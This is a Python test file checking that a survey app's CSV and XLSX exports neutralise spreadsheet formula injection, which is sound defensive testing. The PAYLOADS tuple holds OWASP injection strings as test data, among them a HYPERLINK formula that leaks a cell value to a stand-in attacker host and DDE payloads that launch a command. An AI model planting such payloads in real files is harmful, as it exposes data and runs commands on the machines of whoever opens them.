"""Every CSV and XLSX file Lyttepost writes keeps members' text inert (OWASP "CSV Injection").

The payloads are OWASP's examples. Each file is read back the way a spreadsheet would see
it: in XLSX no cell may be a formula and text that starts like one must carry the quote
prefix; in CSV no field may start with a trigger character. Genuine numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from dialogs.model import AnswerValue
from reports.cells import FORMULA_TRIGGERS, neutralise
from reports.summary import OrgFacts, ResponseFacts, RoundInfo, summarise
from reports.workbook import write_workbook
from services.export import render
from tests.report_fixtures import CLOSES_AT, shipped_survey

PAYLOADS = (
    '=HYPERLINK("http://angriper.example/?leak="&A1,"Klikk her")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
)


def answers_with(payload: str, navngi: bool = True) -> dict[str, AnswerValue]:
    """A valid response to the shipped survey whose every free text is ``payload``."""
    return {
        "omrader": ["helse"],
        "omrader.helse.behov": payload,
        "omrader.helse.haster": 4,
        "omrader.helse.alene": False,
        "omrader.helse.hvem": ["ks"],
        "fra_ks": ["kunnskap"],
        "fornoyd": 1,
        "fornoyd_hvorfor": payload,
        "kontakt": True,
        "navngi": navngi,
        "annet": payload,
    }


def documents() -> list[dict[str, Any]]:
    """Export documents (the shape ``round_export`` returns) with a payload everywhere."""
    return [
        {
            "org": f"91{index:02d}",
            "org_name": payload,
            "county": payload,
            "county_code": "91",
            "contact_id": index,
            "contact_name": payload,
            "status": "submitted",
            "started_at": "2030-01-14T10:00:00+00:00",
            "submitted_at": "2030-01-15T10:00:00+00:00",
            "answers": [
                {"question": key, "value": value} for key, value in answers_with(payload).items()
            ],
        }
        for index, payload in enumerate(PAYLOADS)
    ]


def as_stored(text: str) -> str:
    """XML has no bare carriage return: an XLSX reads one back as a line feed."""
    return text.replace("\r", "\n")


def assert_inert_workbook(path: Path) -> list[Any]:
    """No formula anywhere; text that starts like one carries the quote; returns the values."""
    book = load_workbook(path)
    values = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    shown = cell.value.removeprefix("'") if cell.quotePrefix else cell.value
                    if shown.startswith(FORMULA_TRIGGERS):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    values.append(shown)
                else:
                    values.append(cell.value)
    return values


def assert_inert_csv(text: str, delimiter: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    for row in rows:
        for field in row:
            assert not field.startswith(FORMULA_TRIGGERS), field
    return rows


def test_neutralise_prefixes_exactly_the_trigger_characters() -> None:
    for payload in PAYLOADS:
        assert neutralise(payload) == "'" + payload
    for harmless in ("Helse og omsorg", "3 ansatte", "'sitat'", "", "Økonomi – 2030", "#N/A"):
        assert neutralise(harmless) == harmless


def test_the_xlsx_export_holds_no_formula_and_keeps_numbers(tmp_path: Path) -> None:
    path = tmp_path / "export.xlsx"
    path.write_bytes(render(shipped_survey(), documents(), "xlsx"))
    values = assert_inert_workbook(path)
    for payload in PAYLOADS:  # names, county, need and comments, as written
        assert values.count(as_stored(payload)) >= 5
    sheet = load_workbook(path).active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    first = {name: cell.value for name, cell in zip(header, sheet[3], strict=True)}
    assert first["omrader.helse.haster"] == 4 and first["fornoyd"] == 1  # numbers stay numbers
    assert first["contact_id"] == 0


@pytest.mark.parametrize(("excel", "delimiter"), [(False, ","), (True, ";")])
def test_the_csv_export_neutralises_every_field(excel: bool, delimiter: str) -> None:
    data = render(shipped_survey(), documents(), "csv", excel=excel)
    assert data.startswith(b"\xef\xbb\xbf") is excel  # the BOM only for Excel
    text = data.decode("utf-8-sig")
    rows = assert_inert_csv(text, delimiter)
    header, body = rows[0], rows[1:]
    assert header[:3] == ["org", "org_name", "county"] and len(body) == len(PAYLOADS)
    for row, payload in zip(body, PAYLOADS, strict=True):
        record = dict(zip(header, row, strict=True))
        for column in ("org_name", "contact_name", "omrader.helse.behov", "annet"):
            assert record[column] == "'" + payload
        assert record["omrader.helse.haster"] == "4"


def test_the_report_workbook_holds_no_formula(tmp_path: Path) -> None:
    survey = shipped_survey()
    orgs = [OrgFacts(f"91{i:02d}", payload, "91", payload) for i, payload in enumerate(PAYLOADS)]
    responses = [
        ResponseFacts(org, "submitted", answers_with(org.name, navngi=True)) for org in orgs
    ]
    info = RoundInfo(1, '=HYPERLINK("http://angriper.example")', "closed", CLOSES_AT)
    summary = summarise(survey, info, responses, orgs)
    values = assert_inert_workbook(write_workbook(summary, tmp_path / "report.xlsx"))
    for payload in PAYLOADS:
        # a need, two comments, and the consenting organisation's name beside each
        assert values.count(as_stored(payload.strip())) >= 3, payload
    assert f"Oppsummering: {info.title}" in values
